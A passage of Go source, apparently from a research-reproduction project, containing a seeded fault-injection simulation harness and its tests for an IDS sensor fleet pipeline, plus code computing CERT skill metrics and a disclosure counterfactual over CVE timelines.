			t.Fatalf("after %d crashes: label %q count %d, cold run %d", crashes, k, got[k], n)
		}
	}
	t.Logf("converged to cold-run labels through %d mid-publish/mid-rescan crashes", crashes)
}

// labelKeyOf identifies an event by session identity and full label,
// including the publication date the paper's analysis keys on.
func labelKeyOf(ev *ids.Event) string {
	return fmt.Sprintf("%d|%s|%s|%d|%s|%d", ev.Time.UnixNano(), ev.Src, ev.Dst, ev.SID, ev.CVE, ev.Published.UnixNano())
}
