// Package simtest is the deterministic simulation harness for the full
// sensor-fleet pipeline: it runs the 3-sensor → coordinator → wayback.Study
// stack with every durable file on a fault.SimFS and every fleet connection
// behind a fault.Network, under a seeded schedule of crashes, torn writes,
// failed fsyncs, connection resets, and partitions — restarting crashed
// processes in-loop and asserting the standing invariants after convergence:
//
//   - No acked batch is lost: the run ends with a deliberate power loss and
//     a recovery, and the recovered store must hold exactly the batch
//     study's events.
//   - No event is applied twice: the store's event multiset equals the
//     batch run's, and every coordinator watermark equals the sensor's last
//     assigned sequence.
//   - The paper's Table 4 over the recovered store is byte-identical to the
//     fault-free batch rendering.
//   - Time travel is stable: a timeline engine sealed over the recovered
//     store answers as-of queries exactly as the batch pipeline over the
//     time-filtered events, and byte-identically across one more power cycle.
//
// Any failing seed replays deterministically: `go test ./internal/simtest
// -fault.seed=N` reruns exactly that fault schedule.
//
// What the simulation may kill, and when, follows each component's stated
// contract. The coordinator claims exactly-once across arbitrary power loss
// (group commit + shard truncation to committed sizes + watermarks inside
// the commit record), so coordinator crashes are scheduled at arbitrary
// filesystem steps. The wire claims exactly-once under arbitrary loss and
// redelivery (CRC framing + cumulative watermarks), so connection faults
// and partitions are unrestricted. The sensor's contract is weaker by
// design — its checkpoint advances only at drain-consistent idle flushes,
// and a hard crash between flushes re-captures and re-ships events under
// fresh sequence numbers the coordinator cannot dedup (documented bounded
// duplication, see internal/ingest) — so for the byte-identical invariant
// sensors are killed only at quiescent points (everything durable, pipeline
// idle); TestMidStreamSensorKill covers the hard-crash case separately,
// asserting the no-loss half of the contract and measuring the duplication.
package simtest

import (
	"context"
	"fmt"
	"net"
	"os"
	"path/filepath"
	"sort"
	"strings"
	"sync"
	"time"

	"repro/internal/eventstore"
	"repro/internal/fault"
	"repro/internal/fleet"
	"repro/internal/ids"
	"repro/internal/ingest"
	"repro/internal/pcapio"
	"repro/internal/scanner"
	"repro/internal/tcpasm"
	"repro/internal/telescope"
	"repro/internal/timeline"
	"repro/wayback"
)

// Config is one simulation run.
type Config struct {
	// Seed drives every fault schedule in the run (filesystems and network
	// derive distinct sub-seeds from it).
	Seed int64
	// Scale is the wayback.Config workload scale. Zero means 20.
	Scale int
	// Sensors is the fleet size. Zero means 3.
	Sensors int
	// Coord is the coordinator filesystem's fault profile. The zero profile
	// injects nothing (but the run still ends in a deliberate power loss).
	Coord fault.Profile
	// Net is the connection fault profile (zero = a clean wire).
	Net fault.NetProfile
	// KillSensors kills and restarts each sensor once at a quiescent point
	// (spool, checkpoint, and watermark state all durable; pipeline idle).
	KillSensors bool
	// MidStreamKill hard-crashes sensor 0 while it is mid-stream, exercising
	// the documented bounded-duplication window. Runs with it set must be
	// checked with VerifyAtLeastOnce, not Verify.
	MidStreamKill bool
	// Partitions injects n asymmetric partition episodes while the fleet is
	// converging.
	Partitions int
	// Timeout bounds the whole run. Zero means 90s.
	Timeout time.Duration
}

// Result is what a run observed; Err holds the first invariant violation.
type Result struct {
	BatchEvents  int // events the fault-free batch study found
	StoreEvents  int // events in the recovered store after the final crash
	Lost         int // batch events missing from the store
	Duplicated   int // store events beyond their batch multiplicity
	CoordCrashes int // coordinator crash points that fired (incl. the final one)
	CoordFaults  int // injected coordinator I/O errors
	NetResets    int // connections killed by the byte-budget schedule
	SensorKills  int // sensor processes hard-crashed and restarted
	Table4OK     bool
	Err          error
}

func (r *Result) String() string {
	return fmt.Sprintf("batch=%d store=%d lost=%d dup=%d coordCrashes=%d coordFaults=%d netResets=%d sensorKills=%d table4=%v",
		r.BatchEvents, r.StoreEvents, r.Lost, r.Duplicated, r.CoordCrashes, r.CoordFaults, r.NetResets, r.SensorKills, r.Table4OK)
}

// batchTruth caches the fault-free batch run per (seed, scale): every
// simulation seed compares against the same ground truth, so recomputing it
// per seed would dominate the run.
var (
	truthMu sync.Mutex
	truths  = map[[2]int64]*truth{}
)

type truth struct {
	study   *wayback.Study
	scale   int
	events  []ids.Event
	table4  string
	byShard map[int][]int // sensors count -> per-shard event counts
}

const workloadSeed = 1 // the study workload seed; fault schedules use Config.Seed

func batchTruth(scale int) (*truth, error) {
	truthMu.Lock()
	defer truthMu.Unlock()
	key := [2]int64{workloadSeed, int64(scale)}
	if tr, ok := truths[key]; ok {
		return tr, nil
	}
	study, err := wayback.NewStudy(wayback.Config{Seed: workloadSeed, Scale: scale, PipelineTimelines: true})
	if err != nil {
		return nil, err
	}
	res, err := study.Run()
	if err != nil {
		return nil, err
	}
	tr := &truth{study: study, scale: scale, events: res.Events, table4: res.Table4().String(), byShard: map[int][]int{}}
	truths[key] = tr
	return tr, nil
}

func (tr *truth) shardCounts(shards int) []int {
	if c, ok := tr.byShard[shards]; ok {
		return c
	}
	counts := make([]int, shards)
	for i := range tr.events {
		counts[fleet.ShardOf(tr.events[i].Dst.Addr, shards)]++
	}
	tr.byShard[shards] = counts
	return counts
}

// eventKey is an event's canonical identity: its store wire encoding. Using
// the codec keeps multiset comparison exactly as strict as the store's own
// roundtrip (anything the encoding cannot represent is, by definition, not
// state the pipeline promises to preserve).
func eventKey(ev *ids.Event) string {
	return string(eventstore.EncodeEvent(nil, ev))
}

// sim is one run's live state.
type sim struct {
	cfg      Config
	tr       *truth
	deadline time.Time

	coordFS *fault.SimFS
	nw      *fault.Network

	addr     string // the coordinator's pinned TCP address
	storeDir string // virtual path inside coordFS

	mu    sync.Mutex
	store *eventstore.Store
	fl    *fleet.Listener
	ln    net.Listener

	stopKeeper chan struct{}
	keeperDone chan struct{}
	keeperErr  error
}

// Run executes one simulation. The returned Result is non-nil even when
// Result.Err is set; only setup failures (not invariant violations) are
// returned as the second value.
func Run(cfg Config) (*Result, error) {
	if cfg.Scale == 0 {
		cfg.Scale = 8
	}
	if cfg.Sensors == 0 {
		cfg.Sensors = 3
	}
	if cfg.Timeout == 0 {
		cfg.Timeout = 90 * time.Second
	}
	tr, err := batchTruth(cfg.Scale)
	if err != nil {
		return nil, err
	}
	s := &sim{
		cfg:        cfg,
		tr:         tr,
		deadline:   time.Now().Add(cfg.Timeout),
		coordFS:    fault.NewSimFS(cfg.Seed, cfg.Coord),
		nw:         fault.NewNetwork(cfg.Seed+1, cfg.Net),
		storeDir:   "coord/store",
		stopKeeper: make(chan struct{}),
		keeperDone: make(chan struct{}),
	}
	res := &Result{BatchEvents: len(tr.events)}
	defer func() {
		res.CoordCrashes = s.coordFS.Crashes()
		res.CoordFaults = s.coordFS.Faults()
		res.NetResets = s.nw.Resets()
	}()
	if err := s.run(res); err != nil {
		res.Err = fmt.Errorf("seed %d: %w", cfg.Seed, err)
	}
	return res, nil
}

// openCoordinator opens (or reopens after a crash) the store + fleet
// listener on the pinned address, retrying through injected faults and
// crash points until the deadline.
func (s *sim) openCoordinator() error {
	var lastErr error
	for {
		if time.Now().After(s.deadline) {
			return fmt.Errorf("deadline opening coordinator (last error: %v)", lastErr)
		}
		if s.coordFS.Crashed() {
			s.coordFS.Restart()
		}
		store, err := eventstore.Open(s.storeDir, eventstore.Options{FS: s.coordFS})
		if err != nil {
			lastErr = err
			time.Sleep(2 * time.Millisecond)
			continue
		}
		var ln net.Listener
		if s.addr == "" {
			ln, err = net.Listen("tcp", "127.0.0.1:0")
		} else {
			ln, err = net.Listen("tcp", s.addr)
		}
		if err != nil {
			lastErr = err
			store.Close()
			time.Sleep(2 * time.Millisecond)
			continue
		}
		fl, err := fleet.Listen(fleet.ListenerConfig{
			Listener:       s.nw.WrapListener(ln),
			Sink:           store,
			Dir:            s.storeDir,
			FS:             s.coordFS,
			CommitInterval: 2 * time.Millisecond,
		})
		if err != nil {
			lastErr = err
			ln.Close()
			store.Close()
			time.Sleep(2 * time.Millisecond)
			continue
		}
		s.mu.Lock()
		s.store, s.fl, s.ln = store, fl, ln
		s.mu.Unlock()
		// s.addr is written exactly once, by the first open — which runs
		// synchronously before the keeper goroutine or any sensor exists.
		// Re-opens listen on the pinned address, so rewriting it would only
		// race with the sensors' lock-free reads.
		if s.addr == "" {
			s.addr = ln.Addr().String()
		}
		return nil
	}
}

// closeCoordinator tears the current incarnation down, tolerating the error
// storm of a crashed filesystem.
func (s *sim) closeCoordinator() {
	s.mu.Lock()
	store, fl, ln := s.store, s.fl, s.ln
	s.store, s.fl, s.ln = nil, nil, nil
	s.mu.Unlock()
	if ln != nil {
		ln.Close()
	}
	if fl != nil {
		fl.Close() // error expected when the FS is crashed
	}
	if store != nil {
		store.Close()
	}
}

// keeper is the "init system": it watches for the coordinator's filesystem
// to hit a crash point, and power-cycles the process when it does.
func (s *sim) keeper() {
	defer close(s.keeperDone)
	tick := time.NewTicker(2 * time.Millisecond)
	defer tick.Stop()
	for {
		select {
		case <-s.stopKeeper:
			return
		case <-tick.C:
			if !s.coordFS.Crashed() {
				continue
			}
			s.closeCoordinator()
			if err := s.openCoordinator(); err != nil {
				s.keeperErr = err
				return
			}
		}
	}
}

// sensorProc is one sensor "process": its shipper + ingest pipeline over a
// private SimFS (spool + checkpoint) and a real capture directory.
type sensorProc struct {
	id       string
	shard    int
	fs       *fault.SimFS
	watchDir string
	stateDir string
	finalCk  string // checkpoint content once the whole capture is consumed
	shipper  *fleet.Shipper
	pipeline *ingest.Pipeline
}

// finalCheckpoint is the INGEST checkpoint content that marks a fully
// consumed capture: the last segment at its full size. The capture is fully
// written before sensors start, so this is static for the whole run.
func finalCheckpoint(watchDir string) (string, error) {
	entries, err := os.ReadDir(watchDir)
	if err != nil {
		return "", err
	}
	var names []string
	for _, e := range entries {
		if strings.HasPrefix(e.Name(), "dscope") {
			names = append(names, e.Name())
		}
	}
	if len(names) == 0 {
		return "", fmt.Errorf("no capture segments in %s", watchDir)
	}
	sort.Strings(names)
	last := names[len(names)-1]
	fi, err := os.Stat(filepath.Join(watchDir, last))
	if err != nil {
		return "", err
	}
	return fmt.Sprintf("%s %d\n", last, fi.Size()), nil
}

// quiescent reports whether killing the sensor right now is within its
// contract: the pipeline has matched its whole shard, the durable
// checkpoint covers the final capture position (so a restart re-ingests
// nothing), and every byte of the sensor's durable state has reached the
// simulated platter (so a crash loses nothing).
func (p *sensorProc) quiescent(wantEvents int) bool {
	if p.pipeline.Metrics().Events != uint64(wantEvents) {
		return false
	}
	ck, ok := p.fs.DurableBytes(filepath.Join(p.stateDir, "INGEST-dscope"))
	if !ok || string(ck) != p.finalCk {
		return false
	}
	return p.fs.Quiescent()
}

func (s *sim) startSensor(p *sensorProc) error {
	codec, err := fleet.ParseCodec("snappy")
	if err != nil {
		return err
	}
	shipper, err := fleet.StartShipper(fleet.ShipperConfig{
		Addr:           s.addr,
		SensorID:       p.id,
		Shard:          p.shard,
		Shards:         s.cfg.Sensors,
		StateDir:       p.stateDir,
		FS:             p.fs,
		Dial:           s.nw.Dial,
		Codec:          codec,
		Window:         4,
		HeartbeatEvery: 50 * time.Millisecond,
		BackoffMin:     5 * time.Millisecond,
		BackoffMax:     80 * time.Millisecond,
	})
	if err != nil {
		return err
	}
	pl, err := ingest.Start(ingest.Config{
		Dir:           p.watchDir,
		Prefix:        "dscope",
		Engine:        s.tr.study.Engine(),
		Sink:          shipper,
		CheckpointDir: p.stateDir,
		FS:            p.fs,
		PollInterval:  2 * time.Millisecond,
		FlushIdle:     25 * time.Millisecond,
		BatchSessions: 64,
	})
	if err != nil {
		shipper.Close()
		return err
	}
	p.shipper, p.pipeline = shipper, pl
	return nil
}

// stopSensor tears a sensor down, tolerating a crashed filesystem.
func stopSensor(p *sensorProc) {
	if p.pipeline != nil {
		p.pipeline.Close()
		p.pipeline = nil
	}
	if p.shipper != nil {
		p.shipper.Close()
		p.shipper = nil
	}
}

func (s *sim) run(res *Result) error {
	// Shard-partitioned captures on the real filesystem (capture is the
	// telescope's input, not the pipeline's durable state).
	watchDirs, cleanup, err := writeCaptures(s.tr, s.cfg.Sensors)
	if err != nil {
		return err
	}
	defer cleanup()

	if err := s.openCoordinator(); err != nil {
		return err
	}
	defer s.closeCoordinator()
	go s.keeper()
	defer func() {
		select {
		case <-s.stopKeeper:
		default:
			close(s.stopKeeper)
		}
		<-s.keeperDone
	}()

	sensors := make([]*sensorProc, s.cfg.Sensors)
	for i := range sensors {
		finalCk, err := finalCheckpoint(watchDirs[i])
		if err != nil {
			return err
		}
		sensors[i] = &sensorProc{
			id:       fmt.Sprintf("sensor-%d", i),
			shard:    i,
			fs:       fault.NewSimFS(s.cfg.Seed+10+int64(i), fault.Profile{}),
			watchDir: watchDirs[i],
			stateDir: fmt.Sprintf("sensor-%d/state", i),
			finalCk:  finalCk,
		}
		if err := s.startSensor(sensors[i]); err != nil {
			return err
		}
	}
	defer func() {
		for _, p := range sensors {
			stopSensor(p)
		}
	}()

	// Partition episodes while the fleet converges: cut one direction, let
	// the retry machinery flail, heal.
	if s.cfg.Partitions > 0 {
		for i := 0; i < s.cfg.Partitions; i++ {
			time.Sleep(30 * time.Millisecond)
			s.nw.Partition(i%2 == 0, i%2 == 1)
			time.Sleep(20 * time.Millisecond)
			s.nw.Partition(false, false)
		}
	}

	counts := s.tr.shardCounts(s.cfg.Sensors)

	// Mid-stream hard crash: kill sensor 0 while it is still shipping —
	// before its pipeline has consumed the whole capture.
	if s.cfg.MidStreamKill {
		p := sensors[0]
		deadline := s.deadline
		for p.pipeline.Metrics().Events == 0 && time.Now().Before(deadline) {
			time.Sleep(time.Millisecond)
		}
		p.fs.Crash()
		stopSensor(p)
		p.fs.Restart()
		res.SensorKills++
		if err := s.startSensor(p); err != nil {
			return fmt.Errorf("restarting mid-stream-killed sensor: %w", err)
		}
	}

	// Quiescent kills: once a sensor has ingested its whole shard and every
	// byte of its durable state (spool, checkpoint) has hit the simulated
	// platter, a hard crash is within its contract — restart and it must
	// resume without loss or duplication.
	if s.cfg.KillSensors {
		for i, p := range sensors {
			for {
				if time.Now().After(s.deadline) {
					return fmt.Errorf("deadline waiting for sensor %d quiescence (ingested %d/%d)",
						i, p.pipeline.Metrics().Events, counts[i])
				}
				if p.quiescent(counts[i]) {
					break
				}
				time.Sleep(2 * time.Millisecond)
			}
			p.fs.Crash()
			stopSensor(p)
			p.fs.Restart()
			res.SensorKills++
			if err := s.startSensor(p); err != nil {
				return fmt.Errorf("restarting sensor %d: %w", i, err)
			}
		}
	}

	// Convergence: drain each pipeline (the capture is fully written, so
	// Close consumes the rest), then wait until the coordinator has acked
	// every spooled batch.
	for i, p := range sensors {
		if err := p.pipeline.Close(); err != nil {
			return fmt.Errorf("sensor %d pipeline drain: %w", i, err)
		}
	}
	for i, p := range sensors {
		ctx, cancel := context.WithDeadline(context.Background(), s.deadline)
		err := p.shipper.WaitDrained(ctx)
		cancel()
		if err != nil {
			return fmt.Errorf("sensor %d never drained: %v (%+v)", i, err, p.shipper.Metrics())
		}
	}

	// Stop the keeper, then end the run the honest way: a power loss at
	// rest. Everything acked must survive this.
	close(s.stopKeeper)
	<-s.keeperDone
	if s.keeperErr != nil {
		return s.keeperErr
	}

	// Audit the live coordinator's watermarks against the sensors' assigned
	// sequences before the final crash (the watermark is also recovered and
	// re-audited after it).
	finalSeqs := make([]sensorSeqs, len(sensors))
	for i, p := range sensors {
		m := p.shipper.Metrics()
		finalSeqs[i] = sensorSeqs{last: m.LastSeq, acked: m.AckedSeq}
		if m.Spooled != 0 || m.AckedSeq != m.LastSeq {
			return fmt.Errorf("sensor %d: drained but spool not empty: %+v", i, m)
		}
		stopSensor(p)
	}

	s.coordFS.Crash()
	s.closeCoordinator()
	s.coordFS.Restart()
	if err := s.openCoordinator(); err != nil {
		return fmt.Errorf("final recovery: %w", err)
	}

	return s.verify(res, finalSeqs, s.cfg.MidStreamKill)
}

// sensorSeqs is a sensor's final sequence accounting at shutdown.
type sensorSeqs struct{ last, acked uint64 }

// verify checks the standing invariants against the freshly recovered
// store. atLeastOnce relaxes "exactly the batch events" to "at least the
// batch events" for runs that exercised the sensor's documented
// bounded-duplication window.
func (s *sim) verify(res *Result, seqs []sensorSeqs, atLeastOnce bool) error {
	s.mu.Lock()
	store, fl := s.store, s.fl
	s.mu.Unlock()

	want := map[string]int{}
	for i := range s.tr.events {
		want[eventKey(&s.tr.events[i])]++
	}
	got := store.Snapshot().Events()
	res.StoreEvents = len(got)
	have := map[string]int{}
	for i := range got {
		have[eventKey(&got[i])]++
	}
	for k, n := range want {
		if have[k] < n {
			res.Lost += n - have[k]
		}
	}
	for k, n := range have {
		if w := want[k]; n > w {
			res.Duplicated += n - w
		}
	}
	if res.Lost > 0 {
		return fmt.Errorf("acked data lost: %d of %d batch events missing from the recovered store (store holds %d)",
			res.Lost, res.BatchEvents, res.StoreEvents)
	}
	if res.Duplicated > 0 && !atLeastOnce {
		dupByShard := map[int]int{}
		for i := range got {
			k := eventKey(&got[i])
			if have[k] > want[k] {
				dupByShard[fleet.ShardOf(got[i].Dst.Addr, len(seqs))]++
			}
		}
		return fmt.Errorf("%d events applied more than once (store holds %d, batch found %d; duplicate-holding rows per fleet shard %v; finalSeqs %+v; recovered wm %v)",
			res.Duplicated, res.StoreEvents, res.BatchEvents, dupByShard, seqs, fl.Watermarks().All())
	}

	// Recovered watermarks must cover every acked sequence: an ack is a
	// durability promise.
	for i := range seqs {
		id := fmt.Sprintf("sensor-%d", i)
		if w := fl.Watermarks().Get(id); w < seqs[i].acked {
			return fmt.Errorf("%s: recovered watermark %d below acked sequence %d — an acked batch was not durable",
				id, w, seqs[i].acked)
		}
	}

	if !atLeastOnce {
		table4 := s.tr.study.ResultsFromEvents(got).Table4().String()
		res.Table4OK = table4 == s.tr.table4
		if !res.Table4OK {
			return fmt.Errorf("recovered Table 4 differs from the fault-free batch run")
		}
		if err := s.verifyAsOf(got); err != nil {
			return fmt.Errorf("as-of: %w", err)
		}
	}
	return nil
}

// verifyAsOf checks the time-travel invariant on the recovered store: a
// timeline engine sealed over it answers Table 4 at a mid-study cut and at
// the end exactly as the batch pipeline over the time-filtered events would,
// and the answers are byte-identical before and after one more power cycle
// (the engine's own segments and checkpoints must recover too).
func (s *sim) verifyAsOf(got []ids.Event) error {
	if len(got) == 0 {
		return nil
	}
	mid, final := got[0].Time, got[0].Time
	for i := range got {
		if got[i].Time.After(final) {
			final = got[i].Time
		}
	}
	final = final.Add(time.Hour)
	times := make([]time.Time, len(got))
	for i := range got {
		times[i] = got[i].Time
	}
	sort.Slice(times, func(i, j int) bool { return times[i].Before(times[j]) })
	mid = times[len(times)/2]

	cut := func(t time.Time) []ids.Event {
		var out []ids.Event
		for i := range got {
			if !got[i].Time.After(t) {
				out = append(out, got[i])
			}
		}
		return out
	}
	wantMid := s.tr.study.ResultsFromEvents(cut(mid)).Table4().String()
	wantFinal := s.tr.study.ResultsFromEvents(cut(final)).Table4().String()

	const tlDir = "coord/timeline"
	answers := func() (string, string, error) {
		s.mu.Lock()
		store := s.store
		s.mu.Unlock()
		eng, err := s.tr.study.OpenTimeline(tlDir, store, timeline.Config{
			FS:            s.coordFS,
			SegmentEvents: 256, CheckpointEvery: 1,
		})
		if err != nil {
			return "", "", err
		}
		if _, err := eng.Seal(); err != nil {
			return "", "", err
		}
		vm, err := eng.AsOf(mid)
		if err != nil {
			return "", "", err
		}
		vf, err := eng.AsOf(final)
		if err != nil {
			return "", "", err
		}
		return s.tr.study.ResultsFromView(vm).Table4().String(),
			s.tr.study.ResultsFromView(vf).Table4().String(), nil
	}
	// Retry through injected faults and crash points exactly as the keeper
	// would: power-cycle the coordinator and ask again.
	ask := func() (string, string, error) {
		for {
			if time.Now().After(s.deadline) {
				return "", "", fmt.Errorf("deadline answering as-of queries")
			}
			a, b, err := answers()
			if err == nil && !s.coordFS.Crashed() {
				return a, b, nil
			}
			s.closeCoordinator()
			if s.coordFS.Crashed() {
				s.coordFS.Restart()
			}
			if err := s.openCoordinator(); err != nil {
				return "", "", err
			}
		}
	}
	gotMid, gotFinal, err := ask()
	if err != nil {
		return err
	}
	if gotMid != wantMid {
		return fmt.Errorf("Table 4 as of the mid-study cut differs from the batch run over the same events")
	}
	if gotFinal != wantFinal {
		return fmt.Errorf("Table 4 as of the end differs from the batch run")
	}

	// One more deliberate power loss: the sealed segments and checkpoints
	// must recover and answer byte-identically.
	s.coordFS.Crash()
	s.closeCoordinator()
	s.coordFS.Restart()
	if err := s.openCoordinator(); err != nil {
		return fmt.Errorf("recovery before re-asking: %w", err)
	}
	againMid, againFinal, err := ask()
	if err != nil {
		return err
	}
	if againMid != gotMid || againFinal != gotFinal {
		return fmt.Errorf("as-of answers changed across crash/restart")
	}
	return nil
}

// writeCaptures renders the telescope workload into per-shard rotating pcap
// directories on the real filesystem.
func writeCaptures(tr *truth, shards int) ([]string, func(), error) {
	bps, err := scanner.Build(scanner.Config{Seed: workloadSeed, Scale: scaleOf(tr)})
	if err != nil {
		return nil, nil, err
	}
	sessions := telescope.NewSim(telescope.SimConfig{Seed: workloadSeed}).Sessions(bps)
	root, err := os.MkdirTemp("", "simtest-*")
	if err != nil {
		return nil, nil, err
	}
	cleanup := func() { os.RemoveAll(root) }
	dirs := make([]string, shards)
	for i := range dirs {
		dirs[i] = fmt.Sprintf("%s/shard-%d", root, i)
		if err := os.MkdirAll(dirs[i], 0o755); err != nil {
			cleanup()
			return nil, nil, err
		}
		w, err := pcapio.NewRotatingWriter(dirs[i], "dscope", pcapio.LinkTypeEthernet, 128<<10, pcapio.WithNanoPrecision())
		if err != nil {
			cleanup()
			return nil, nil, err
		}
		var mine []tcpasm.Session
		for j := range sessions {
			if fleet.ShardOf(sessions[j].Server.Addr, shards) == i {
				mine = append(mine, sessions[j])
			}
		}
		if err := telescope.SessionsToPcap(mine, w, workloadSeed); err != nil {
			w.Close()
			cleanup()
			return nil, nil, err
		}
		if err := w.Close(); err != nil {
			cleanup()
			return nil, nil, err
		}
	}
	return dirs, cleanup, nil
}

// scaleOf recovers the scale a truth was built with (the cache key is not
// threaded through; the study carries it).
func scaleOf(tr *truth) int { return tr.scale }
