package simtest

import (
	"flag"
	"fmt"
	"strings"
	"sync"
	"testing"
	"time"

	"repro/internal/fault"
)

var (
	seedFlag  = flag.Int64("fault.seed", -1, "replay exactly this simulation seed (overrides -fault.seeds)")
	seedsFlag = flag.Int("fault.seeds", 8, "number of seeds to run, starting at 0")
)

// stressProfile is the standard seeded fault schedule: coordinator crash
// points plus a sprinkle of injected I/O errors, connection resets with
// byte-level truncation, write delays, and a partition episode — with each
// sensor additionally power-cycled once at a quiescent point.
func stressConfig(seed int64) Config {
	return Config{
		Seed: seed,
		Coord: fault.Profile{
			TornWrite:  0.002,
			ENOSPC:     0.002,
			SyncFail:   0.005,
			CrashEvery: 800,
		},
		Net: fault.NetProfile{
			ResetProb: 0.25,
			MinBudget: 8 << 10,
			MaxBudget: 256 << 10,
			MaxDelay:  200 * time.Microsecond,
		},
		KillSensors: true,
		Partitions:  1,
	}
}

// TestSimSeeds is the harness's acceptance surface: every seed must
// converge to a recovered store that is byte-for-byte the fault-free batch
// run, despite everything the schedule threw at it. A failing seed N
// replays alone with -fault.seed=N.
func TestSimSeeds(t *testing.T) {
	if testing.Short() {
		t.Skip("simulation runs are not -short material")
	}
	seeds := seedList()
	type tally struct{ crashes, faults, resets, kills int }
	var mu sync.Mutex
	var tot tally
	for _, seed := range seeds {
		seed := seed
		t.Run(fmt.Sprintf("seed=%d", seed), func(t *testing.T) {
			t.Parallel()
			res, err := Run(stressConfig(seed))
			if err != nil {
				t.Fatalf("setup: %v", err)
			}
			t.Logf("%s", res)
			if res.Err != nil {
				t.Fatal(res.Err)
			}
			mu.Lock()
			tot.crashes += res.CoordCrashes
			tot.faults += res.CoordFaults
			tot.resets += res.NetResets
			tot.kills += res.SensorKills
			mu.Unlock()
		})
	}
	t.Cleanup(func() {
		t.Logf("totals over %d seeds: coordCrashes=%d coordFaults=%d netResets=%d sensorKills=%d",
			len(seeds), tot.crashes, tot.faults, tot.resets, tot.kills)
		// The harness must actually be injecting: a schedule that stopped
		// firing would quietly turn this into a fair-weather test. A single
		// replayed seed is exempt — one run may legitimately draw no resets.
		if len(seeds) >= 4 && (tot.crashes == 0 || tot.resets == 0 || tot.kills == 0) {
			t.Errorf("fault schedule fired nothing across %d seeds: %+v", len(seeds), tot)
		}
	})
}

// TestMidStreamSensorKill hard-crashes a sensor while it is still shipping
// — outside the quiescent window the byte-identical invariant needs — and
// asserts the documented contract for that case: nothing is lost (the
// checkpoint lags, never leads), while duplication is allowed and measured.
func TestMidStreamSensorKill(t *testing.T) {
	if testing.Short() {
		t.Skip("simulation runs are not -short material")
	}
	seed := int64(1)
	if *seedFlag >= 0 {
		seed = *seedFlag
	}
	res, err := Run(Config{
		Seed:          seed,
		MidStreamKill: true,
		Net:           fault.NetProfile{ResetProb: 0.1, MaxDelay: 100 * time.Microsecond},
	})
	if err != nil {
		t.Fatalf("setup: %v", err)
	}
	t.Logf("%s", res)
	if res.Err != nil {
		t.Fatal(res.Err)
	}
	if res.Lost != 0 {
		t.Fatalf("mid-stream crash lost %d events", res.Lost)
	}
	t.Logf("bounded duplication from the re-captured window: %d events", res.Duplicated)
}

// TestHarnessCatchesDurabilityBug is the harness's own acceptance test: a
// deliberately injected durability bug — the commit path's data fsync
// silently dropped, so the commit record promises bytes the platter never
// got — must be caught, and the catching seed must replay deterministically.
func TestHarnessCatchesDurabilityBug(t *testing.T) {
	if testing.Short() {
		t.Skip("simulation runs are not -short material")
	}
	buggy := func(seed int64) Config {
		return Config{
			Seed: seed,
			Coord: fault.Profile{
				// The lying fsync: shard data files report success without
				// durability. Everything else is clean — the final power
				// loss alone must expose the bug.
				DropSync: func(name string) bool { return strings.Contains(name, "events-") },
			},
			Timeout: 60 * time.Second,
		}
	}
	var caught int64 = -1
	for seed := int64(0); seed < 4; seed++ {
		res, err := Run(buggy(seed))
		if err != nil {
			t.Fatalf("setup: %v", err)
		}
		t.Logf("seed %d: %s err=%v", seed, res, res.Err)
		if res.Err != nil {
			if res.Lost == 0 {
				t.Fatalf("seed %d: harness flagged the buggy build without observing loss: %v", seed, res.Err)
			}
			caught = seed
			break
		}
	}
	if caught < 0 {
		t.Fatal("no seed caught the dropped-fsync bug: the harness is not testing durability")
	}
	// Deterministic replay: the same seed must catch the same bug again.
	res, err := Run(buggy(caught))
	if err != nil {
		t.Fatalf("setup: %v", err)
	}
	if res.Err == nil || res.Lost == 0 {
		t.Fatalf("seed %d caught the bug once but not on replay: %s err=%v", caught, res, res.Err)
	}
	t.Logf("seed %d replayed deterministically: %v", caught, res.Err)
}

func seedList() []int64 {
	if *seedFlag >= 0 {
		return []int64{*seedFlag}
	}
	n := *seedsFlag
	if n < 1 {
		n = 1
	}
	seeds := make([]int64, n)
	for i := range seeds {
		seeds[i] = int64(i)
	}
	return seeds
}
