package core

import (
	"time"

	"repro/internal/lifecycle"
)

// Skill computes the CERT skill metric a_d = (f_obs − f_base)/(1 − f_base):
// 0 at the baseline rate, 1 at perfect satisfaction, negative below
// baseline. A baseline of exactly 1 yields 0 by convention (no headroom).
func Skill(fObs, fBase float64) float64 {
	if fBase >= 1 {
		return 0
	}
	return (fObs - fBase) / (1 - fBase)
}

// DesideratumResult is one row of Table 4.
type DesideratumResult struct {
	Pair Pair
	// Evaluated is the number of CVEs where both events are known.
	Evaluated int
	// SatisfiedCount of those satisfied the ordering.
	SatisfiedCount int
	// Satisfied is the observed satisfaction rate.
	Satisfied float64
	// Baseline is the luck-model satisfaction rate.
	Baseline float64
	// Skill is the CERT skill value.
	Skill float64
}

// EvaluateDesiderata computes Table 4 over a set of CVE timelines: for each
// desideratum, the satisfaction rate across CVEs where both events are
// known, against the given baselines.
func EvaluateDesiderata(timelines []lifecycle.Timeline, baselines map[Pair]float64) []DesideratumResult {
	out := make([]DesideratumResult, 0, len(Desiderata()))
	for _, d := range Desiderata() {
		res := DesideratumResult{Pair: d, Baseline: baselines[d]}
		for i := range timelines {
			sat, ok := timelines[i].Before(d.A, d.B)
			if !ok {
				continue
			}
			res.Evaluated++
			if sat {
				res.SatisfiedCount++
			}
		}
		if res.Evaluated > 0 {
			res.Satisfied = float64(res.SatisfiedCount) / float64(res.Evaluated)
		}
		res.Skill = Skill(res.Satisfied, res.Baseline)
		out = append(out, res)
	}
	return out
}

// MeanSkill averages the skill across results (Finding 3 reports 0.37).
func MeanSkill(results []DesideratumResult) float64 {
	if len(results) == 0 {
		return 0
	}
	var s float64
	for _, r := range results {
		s += r.Skill
	}
	return s / float64(len(results))
}

// SkillfulCount returns how many desiderata beat their baseline (Finding 3
// reports 8 of 9).
func SkillfulCount(results []DesideratumResult) int {
	n := 0
	for _, r := range results {
		if r.Skill > 0 {
			n++
		}
	}
	return n
}

// Counterfactual implements the Finding-7 experiment: for CVEs whose IDS
// mitigation followed public announcement by at most window (30 days in the
// paper), move D (and F) back to the publication date, modeling the IDS
// vendor being included in coordinated disclosure. Returns adjusted copies.
func Counterfactual(timelines []lifecycle.Timeline, window time.Duration) []lifecycle.Timeline {
	out := make([]lifecycle.Timeline, len(timelines))
	copy(out, timelines)
	for i := range out {
		t := &out[i]
		d, okD := t.Get(lifecycle.FixDeployed)
		p, okP := t.Get(lifecycle.PublicAware)
		if !okD || !okP {
			continue
		}
		lag := d.Sub(p)
		if lag > 0 && lag <= window {
			t.Set(lifecycle.FixDeployed, p)
			t.Set(lifecycle.FixReady, p)
		}
	}
	return out
}

